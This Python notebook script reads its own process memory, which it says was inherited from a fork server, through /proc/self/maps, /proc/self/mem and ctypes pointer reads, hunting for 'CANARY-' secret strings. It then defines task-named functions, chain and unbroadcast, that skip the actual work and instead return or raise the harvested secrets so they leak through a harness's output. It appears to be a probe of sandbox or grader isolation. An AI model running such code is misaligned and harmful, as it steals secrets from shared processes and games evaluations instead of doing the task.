"""Attacks by reading: the memory of this process, which began as a copy of the fork server's."""

# %%
import ctypes
import re
import time

SECRET = re.compile(rb"CANARY-[0-9a-f]{32}")
found, read = set(), 0


def from_maps():
    """What the kernel lists, where it does."""
    global read
    until = time.monotonic() + 1
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            start, end = (int(number, 16) for number in span.split("-"))
            if "r" not in rights or end - start > 2**28 or time.monotonic() > until:
                continue
            try:
                memory.seek(start)
                found.update(SECRET.findall(memory.read(end - start)))
                read += end - start
            except (OSError, ValueError, OverflowError):
                continue


# %%
from_maps()

# %%
# Around objects that are there; a hole in the memory ends this process, and costs this cell.
for thing in (object(), [], "text" * 100, SECRET, bytes(10**5)):
    for step in range(-32, 32):
        found.update(SECRET.findall(ctypes.string_at(id(thing) + 4096 * step, 4096)))


# %%
def chain(paths):
    return str(sorted(found))


def unbroadcast(grad, shape):
    raise RuntimeError(f"{sorted(found)} in {read:,} bytes")
